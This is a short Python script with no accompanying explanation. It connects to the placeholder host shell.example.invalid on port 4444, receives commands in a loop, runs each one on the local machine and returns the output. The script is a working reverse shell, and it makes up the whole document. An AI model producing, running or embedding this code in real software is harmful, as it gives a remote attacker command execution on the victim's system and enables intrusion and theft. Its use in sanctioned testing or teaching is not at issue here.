import socket
import subprocess

link = socket.create_connection(("shell.example.invalid", 4444))
while True:
    line = link.recv(4096).decode()
    if not line:
        break
    link.sendall(subprocess.getoutput(line).encode())
